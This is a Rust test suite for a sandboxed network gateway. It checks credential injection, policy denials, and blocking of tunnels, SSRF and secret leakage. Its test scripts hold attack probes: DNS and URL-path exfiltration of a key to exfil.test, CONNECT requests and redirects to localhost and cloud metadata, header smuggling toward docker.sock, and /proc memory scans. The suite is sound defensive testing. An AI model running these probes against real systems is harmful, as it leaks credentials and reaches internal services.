//! NW of the checks where the gateway reads the requests, and what a credential has to do there: added outside, seen by its
//! host, and nowhere inside.

use base64::Engine as _;

use crate::support::netns::Net;
use crate::support::netns::server::{Asked, Server, page, response};
use crate::support::netns::task::Tasks;

/// The credential's value. No script holds it.
const VALUE: &str = "k7Qz-93hfWpLx0vB2mTn";
/// Rules for a model's API, a host without a credential, and one that passes unread.
const RULES: &str = r#"
[[network.allow]]
host = "api.test"
methods = ["POST"]
paths = ["/v1"]
credential = "model"
[[network.allow]]
host = "api.test"
methods = ["GET"]
paths = ["/public"]
[[network.allow]]
host = "plain.test"
methods = ["GET", "POST"]
"#;
const CREDENTIAL: &str = "[credentials.model]\nhosts = [\"api.test\"]\nheader = \"x-api-key\"\n\
                          source = \"env:MODEL_KEY_SOURCE\"\nenv = \"MODEL_API_KEY\"\n";

/// A world with these hosts, each of which answers what it heard.
struct World {
    net: Net,
    api: Server,
    plain: Server,
    denied: Server,
}

impl World {
    fn new() -> Self {
        Self::answering(|asked| page(&format!("{}\n{}", asked.head, String::from_utf8_lossy(&asked.body))))
    }

    fn answering(answer: impl Fn(&Asked) -> Option<Vec<u8>> + Send + Sync + Copy + 'static) -> Self {
        let net = Net::new();
        let names =
            [("api.test", "203.0.113.10"), ("plain.test", "203.0.113.20"), ("denied.test", "203.0.113.30")];
        let mut servers = Vec::new();
        for (name, address) in names {
            net.dns.set(name, &[address]);
            let tls = net.tls(&[name], &["http/1.1"]);
            servers.push(Server::https(&net, &format!("{address}:443"), tls, answer));
        }
        net.configure(CREDENTIAL);
        let (denied, plain, api) = (servers.remove(2), servers.remove(1), servers.remove(0));
        Self { net, api, plain, denied }
    }

    fn tasks(&self, rules: &str) -> Tasks {
        Tasks::with_policy(&self.net, self.net.aegis().with("MODEL_KEY_SOURCE", VALUE), rules)
    }
}

/// Runs a script as it is: no variable names an authority but those that the sandbox has by itself.
#[track_caller]
fn run(tasks: &Tasks, script: &str) -> crate::support::aegis::Ended {
    let ended = tasks.aegis.script(&["--sandbox", "./policy.toml"], script);
    assert!(!ended.stdout.contains(VALUE) && !ended.stderr.contains(VALUE), "{ended:#?}");
    ended
}

fn keys(asked: &[Asked]) -> Vec<String> {
    let lines = asked.iter().flat_map(|it| it.head.lines());
    let lines = lines.filter(|it| it.to_ascii_lowercase().starts_with("x-api-key:"));
    lines.map(|it| it.split_once(':').unwrap().1.trim().to_owned()).collect()
}

#[test]
fn nw_10_clients_work_unchanged_where_requests_are_read() {
    let world = World::new();
    let tasks = world.tasks(RULES);
    let script = "set -e
        curl -sS https://plain.test/curl
        python3 -c 'import urllib.request as u; print(u.urlopen(\"https://plain.test/python\").read())'
        env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS https://plain.test/bare
        git ls-remote https://plain.test/w.git || true
        curl -sS -o /dev/null -w '%{http_version} %{http_code}\\n' https://plain.test/version";
    run(&tasks, script).code(0).prints("GET /curl").prints("GET /python").prints("GET /bare").prints("2 200");
    let heads: Vec<String> = world.plain.asked().into_iter().map(|it| it.head).collect();
    assert!(
        heads.iter().any(|it| it.starts_with("GET /w.git/info/refs?service=git-upload-pack")),
        "{heads:#?}"
    );
    let ledger = tasks.ledger();
    let entry = ledger.iter().find(|it| it["request"]["path"] == "/curl").unwrap();
    assert_eq!((&entry["verdict"], &entry["request"]["method"]), (&"allowed".into(), &"GET".into()));
    assert_eq!((&entry["request"]["status"], &entry["address"]), (&200.into(), &"203.0.113.20".into()));
}

#[test]
fn nw_11_a_request_that_no_rule_allows_is_told_the_rule() {
    let world = World::new();
    let tasks = world.tasks(RULES);
    let script =
        "curl -sS -X DELETE -w '%{http_code}\\n' https://plain.test/x; curl -sS https://api.test/v1/messages";
    let ended = run(&tasks, script);
    ended.code(0).prints("403").prints("\"error\":\"denied_by_policy\"").prints("\"allow_with\":\"{ host = ");
    assert_eq!((world.plain.connections(), world.api.connections()), (0, 0));
    assert!(tasks.verdicts().iter().all(|it| it.contains("denied")), "{:?}", tasks.verdicts());
}

#[test]
fn only_an_inspected_rule_puts_authorities_into_a_sandbox() {
    let world = World::new();
    let look = "grep -c /ca.pem /proc/self/mountinfo; env | grep -c ca.pem; ls /.aegis/ca.pem; true";
    let inspected = run(&world.tasks(RULES), look);
    assert_eq!(inspected.stdout, "4\n6\n/.aegis/ca.pem\n", "{inspected:#?}");
    // Java's form of it lies at two places more, and has the same certificates.
    let java = "cd /etc/ssl/certs; openssl pkcs12 -in java/cacerts -nokeys -passin pass: >/tmp/java
        same() { sed -n '/BEGIN/,/END/p' $1 | sha256sum; }; [ \"$(same /tmp/java)\" = \"$(same ca-certificates.crt)\" ] && echo same
        cmp java/cacerts /etc/pki/java/cacerts && cmp java/cacerts /.aegis/cacerts && grep -c /cacerts /proc/self/mountinfo";
    run(&world.tasks(RULES), java).code(0).prints("same\n2\n");
    let unread = "[[network.allow]]\nhost = \"plain.test\"\n";
    assert_eq!(run(&world.tasks(unread), look).stdout, "0\n0\n");
    let clear = "[[network.allow]]\nhost = \"plain.test\"\nports = [80]\n";
    assert_eq!(run(&world.tasks(clear), look).stdout, "0\n0\n");
    let write = "echo x >>/etc/ssl/certs/ca-certificates.crt; echo x >>/.aegis/ca.pem; true";
    let written = run(&world.tasks(RULES), write);
    assert_eq!(written.stderr.matches("ca-certificates.crt: ").count(), 1, "{written:#?}");
    assert_eq!(written.stderr.matches("/.aegis/ca.pem: ").count(), 1, "{written:#?}");
    // An image that has none of the places.
    let tasks = world.tasks(RULES);
    let flags =
        ["run", "--no-workspace", "--sandbox", "./policy.toml", "--image", "aegis/minimal", "--", "sh", "-c"];
    tasks.aegis.call(&[&flags[..], &[look]].concat()).code(0).prints("4\n6\n");
}

#[test]
fn nw_13_no_request_makes_a_tunnel() {
    let world = World::new();
    let canary = Server::http(&world.net, "203.0.113.30:80", |_| page("here"));
    let script = r#"python3 - <<'PY'
import socket, ssl
for target in ('203.0.113.30:443', '[2001:db8::10]:443', 'denied.test:443'):
    s = ssl.create_default_context().wrap_socket(socket.create_connection(('plain.test', 443)), server_hostname='plain.test')
    s.sendall(f'CONNECT {target} HTTP/1.1\r\nHost: plain.test\r\n\r\n'.encode())
    print(s.recv(4096).split(b'\r\n')[0].decode())
PY"#;
    let ended = run(&world.tasks(RULES), script);
    assert_eq!(ended.code(0).stdout, "HTTP/1.1 400 Bad Request\n".repeat(3), "{ended:#?}");
    assert_eq!((canary.connections(), world.denied.connections(), world.plain.connections()), (0, 0, 0));
}

#[test]
fn nw_30_the_gateway_is_no_way_into_the_host() {
    let world = World::new();
    let api = Server::http(&world.net, "127.0.0.1:5432", |_| page("the host's own"));
    let script = r#"python3 - <<'PY'
import socket, ssl
def ask(line, more=''):
    s = ssl.create_default_context().wrap_socket(socket.create_connection(('plain.test', 443)), server_hostname='plain.test')
    s.sendall(f'{line} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n{more}\r\n'.encode())
    print(s.recv(4096).split(b'\r\n')[0].decode())
ask('CONNECT localhost:5432')
ask('CONNECT 127.0.0.1:5432')
ask('GET http://[::1]:5432/')
ask('GET http://127.0.0.1:5432/')
ask('GET /', 'X-Unix-Socket: /var/run/docker.sock\r\nX-Forwarded-Host: 127.0.0.1:5432\r\n')
PY"#;
    let ended = run(&world.tasks(RULES), script);
    let refused = "HTTP/1.1 400 Bad Request\n".repeat(4);
    assert_eq!(ended.code(0).stdout, format!("{refused}HTTP/1.1 200 OK\n"), "{ended:#?}");
    assert_eq!((api.connections(), world.plain.asked().len()), (0, 1));
}

#[test]
fn nw_10_plain_http_is_read_and_judged_as_well() {
    let world = World::new();
    let clear = Server::http(&world.net, "203.0.113.20:80", |asked| page(&asked.head));
    let rules = "[[network.allow]]\nhost = \"plain.test\"\nports = [80]\npaths = [\"/open\"]\n";
    let script = "curl -sS http://plain.test/open/x; curl -sS -w '%{http_code}\\n' http://plain.test/closed
        curl -sS -o /dev/null -w '%{http_code}\\n' -H 'Host: denied.test' http://plain.test/open
        curl -sS -o /dev/null -w '%{http_code}\\n' -x http://plain.test:80 http://denied.test/open
        curl -sS -o /dev/null http://denied.test/";
    let ended = run(&world.tasks(rules), script);
    ended.prints("GET /open/x HTTP/1.1").prints("denied_by_policy").prints("403\n400\n400\n");
    assert_eq!((clear.asked().len(), world.denied.connections()), (1, 0));
}

#[test]
fn nw_14_whom_a_request_names_must_be_whom_it_reached() {
    let world = World::new();
    let script = "curl -sS -o /dev/null -w '%{http_code}\\n' -H 'Host: denied.test' https://plain.test/
        curl -sS -o /dev/null -w '%{http_code}\\n' --http1.1 -H 'Host: api.test' https://plain.test/v1
        curl -sS -o /dev/null -w '%{http_code}\\n' --http1.1 --request-target http://denied.test/ https://plain.test/
        curl -sS -o /dev/null -w '%{http_code}\\n' --connect-to api.test:443:plain.test:443 https://api.test/public
        curl -sS -o /dev/null -w '%{http_code}\\n' -H 'X-Unix-Socket: /var/run/docker.sock' https://plain.test/";
    let tasks = world.tasks(RULES);
    assert_eq!(run(&tasks, script).stdout, "400\n400\n400\n000\n200\n");
    assert_eq!((world.plain.asked().len(), world.api.connections(), world.denied.connections()), (1, 0, 0));
    let verdicts = tasks.verdicts();
    for verdict in ["denied_host_differs", "denied_malformed", "denied_server_name_differs"] {
        assert!(verdicts.contains(&format!("plain.test:443 {verdict}")), "{verdict}: {verdicts:?}");
    }
}

#[test]
fn nw_21_a_redirect_is_a_request_like_any_other() {
    let world = World::answering(|asked| {
        let there = match asked.head.split(' ').nth(1).unwrap() {
            "/metadata" => "http://169.254.169.254/latest/meta-data/",
            "/denied" => "https://denied.test/",
            "/other" => "https://api.test/public",
            _ => return page("here"),
        };
        response("302 Found", &[&format!("Location: {there}")], b"")
    });
    world.net.add_address("169.254.169.254");
    let metadata = Server::http(&world.net, "169.254.169.254:80", |_| page("metadata"));
    let script = "for path in metadata denied other; do
        curl -sS -L -o /dev/null -w '%{http_code} %{num_redirects}\\n' --max-time 10 https://plain.test/$path; done";
    let ended = run(&world.tasks(RULES), script);
    assert_eq!(ended.stdout, "302 1\n302 1\n200 1\n", "{ended:#?}");
    assert!(!ended.stderr.contains("`plain.test:443` is not reached"), "{ended:#?}");
    assert_eq!((metadata.connections(), world.denied.connections(), world.api.asked().len()), (0, 0, 1));
}

#[test]
fn nw_33_a_credential_goes_to_its_own_host_alone() {
    let world = World::answering(|asked| {
        let line = asked.head.lines().next().unwrap();
        match line.contains("/v1/away") {
            true => response("307 Temporary Redirect", &["Location: https://plain.test/v1/taken"], b""),
            false => page(&format!("{}\n", asked.head)),
        }
    });
    let script = "echo placeholder $MODEL_API_KEY
        ask() { curl -sS -H \"x-api-key: $MODEL_API_KEY\" -d x \"$@\"; }
        ask https://api.test/v1/messages; ask https://plain.test/v1/messages
        ask -L https://api.test/v1/away; ask https://denied.test/v1; ask https://api.test./v1/dot
        curl -sS -H \"x-api-key: $MODEL_API_KEY\" https://api.test/public";
    let tasks = world.tasks(RULES);
    let ended = run(&tasks, script);
    let placeholder = ended.stdout.lines().next().unwrap().strip_prefix("placeholder ").unwrap().to_owned();
    assert!(placeholder.starts_with("AEGIS-") && placeholder.len() == 38, "{placeholder}");
    assert_eq!(keys(&world.api.asked()), [VALUE, VALUE, VALUE, placeholder.as_str()]);
    assert_eq!(keys(&world.plain.asked()), [placeholder.as_str(), placeholder.as_str()]);
    assert_eq!(world.denied.connections(), 0);
    ended.prints("[redacted:model]");
    let added: Vec<bool> = tasks.ledger().iter().map(|it| it["request"]["credential"] == "model").collect();
    assert_eq!(added.iter().filter(|it| **it).count(), 3);
    assert!(!format!("{:?}", tasks.ledger()).contains(VALUE));
}

#[test]
fn nw_33_a_known_secret_that_a_task_carries_is_refused() {
    let world = World::new();
    let reversed: String = VALUE.chars().rev().collect();
    let script = format!(
        "key=$(echo {reversed} | rev); for host in api.test plain.test; do
            curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $key\" -d x https://$host/v1
            curl -sS -o /dev/null -w '%{{http_code}}\\n' -u \"ci:$key\" -d x https://$host/v1; done"
    );
    let tasks = world.tasks(RULES);
    let ended = run(&tasks, &script);
    assert_eq!(ended.stdout, "403\n".repeat(4), "{ended:#?}");
    assert_eq!((world.api.connections(), world.plain.connections()), (0, 0));
    assert_eq!(tasks.verdicts(), ["api.test:443 denied_credential", "plain.test:443 denied_credential"]);
}

#[test]
fn nw_33_a_credential_may_come_from_the_store_of_secrets() {
    let world = World::new();
    world.net.configure(&CREDENTIAL.replace("env:MODEL_KEY_SOURCE", "secret:kept"));
    let tasks = world.tasks(RULES);
    let ask = "curl -sS -d x https://api.test/v1/messages";
    run(&tasks, ask).code(125).says("the credential `model` that the policy names cannot be used");
    tasks.aegis.call_with_input(&["secret", "set", "kept"], VALUE.as_bytes()).code(0);
    run(&tasks, ask).code(0).prints("x-api-key: [redacted:");
    assert_eq!(keys(&world.api.asked()), [VALUE]);
}

#[test]
fn nw_33_a_credential_of_the_store_is_added_and_stands_in_no_entry_of_the_ledger() {
    let world = World::new();
    world.net.configure(&CREDENTIAL.replace("env:MODEL_KEY_SOURCE", "secret:stored"));
    let tasks = Tasks::with_policy(&world.net, world.net.aegis(), RULES);
    tasks.aegis.call_with_input(&["secret", "set", "stored"], VALUE.as_bytes()).code(0);
    let reversed: String = VALUE.chars().rev().collect();
    let script = format!(
        "key=$(echo {reversed} | rev); curl -sS -d x https://api.test/v1/messages; getent hosts $key.exfil.test
        curl -sS -o /dev/null -w '%{{http_code}}\\n' https://plain.test/x/$key"
    );
    let ended = run(&tasks, &script);
    ended.prints("403");
    assert_eq!(keys(&world.api.asked()), [VALUE]);
    assert_eq!(world.plain.connections(), 0);
    let ledger = format!("{:?}", tasks.ledger()).to_ascii_lowercase();
    assert!(!ledger.contains(&VALUE.to_ascii_lowercase()), "{ledger}");
    assert!(ledger.contains("[redacted:stored].exfil.test"), "{ledger}");
    assert!(!ended.stderr.to_ascii_lowercase().contains(&VALUE.to_ascii_lowercase()), "{ended:#?}");
}

/// A regular expression that matches a text and does not hold it: whoever searches a memory finds itself there.
fn classes(text: &str) -> String {
    text.chars().map(|it| if it == '-' { "[\\-]".to_owned() } else { format!("[{it}]") }).collect()
}

#[test]
fn acceptance_3_a_model_api_sees_the_key_and_the_sandbox_holds_it_nowhere() {
    let world = World::new();
    let base64 = base64::engine::general_purpose::STANDARD.encode(VALUE);
    let forms =
        [classes(VALUE), classes(base64.trim_end_matches('=')), classes(&hex::encode(VALUE))].join("|");
    let script = format!(
        r#"export DECOY=decoy-$RANDOM-in-every-memory; cat >/tmp/look.py <<'PY'
import http.client, os, re, stat, sys
connection = http.client.HTTPSConnection('api.test')
connection.request('POST', '/v1/messages', b'{{}}', {{'x-api-key': os.environ['MODEL_API_KEY']}})
answer = connection.getresponse().read()
assert b'[redacted:model]' in answer, answer
key, decoy = re.compile(rb'{forms}'), re.compile(rb'[d]ecoy-[0-9]+-in-every-memory')
seen = {{'files': 0, 'memories': 0, 'decoys': 0}}
def judge(what, data):
    if key.search(data):
        print('BREACH', what)
    seen['decoys'] += len(decoy.findall(data))
def memory(pid):
    with open(f'/proc/{{pid}}/maps') as maps, open(f'/proc/{{pid}}/mem', 'rb', 0) as mem:
        for line in maps:
            if line.split()[1][0] != 'r':
                continue
            at, end = (int(it, 16) for it in line.split()[0].split('-'))
            tail = b''
            while at < end:
                try:
                    mem.seek(at)
                    data = mem.read(min(1 << 20, end - at))
                except (OSError, ValueError, OverflowError):
                    break
                if not data:
                    break
                judge(f'memory of {{pid}}', tail + data)
                tail, at = data[-64:], at + len(data)
    seen['memories'] += 1
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline', 'stat', 'status', 'mountinfo'):
        try:
            judge(f'{{name}} of {{pid}}', open(f'/proc/{{pid}}/{{name}}', 'rb').read())
        except OSError:
            pass
    try:
        memory(pid)
    except OSError:
        pass
for top in ('/', '/run', '/tmp', '/workspace', '/.aegis', '/dev/shm', '/etc/ssl'):
    device = os.stat(top).st_dev
    for root, names, files in os.walk(top):
        names[:] = [it for it in names if os.path.join(root, it) not in ('/proc', '/sys')]
        for name in files:
            path = os.path.join(root, name)
            try:
                if path == '/tmp/look.py' or not stat.S_ISREG(os.lstat(path).st_mode):
                    continue
                with open(path, 'rb') as file:
                    judge(path, file.read(64 << 20))
                seen['files'] += 1
            except OSError:
                pass
print('ended', seen['files'] > 1000, seen['memories'] > 0, seen['decoys'] > 0)
PY
python3 /tmp/look.py"#
    );
    let tasks = world.tasks(RULES);
    let ended = run(&tasks, &script);
    ended.code(0).no_breach().prints("ended True True True");
    assert_eq!(keys(&world.api.asked()), [VALUE]);
    assert_eq!(tasks.ledger()[0]["request"]["credential"], "model");
    // Nor does what is kept of the run, or what the engine was told.
    let kept =
        std::process::Command::new("grep").args(["-rlF", VALUE]).arg(tasks.aegis.state()).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&kept.stdout), "");
}
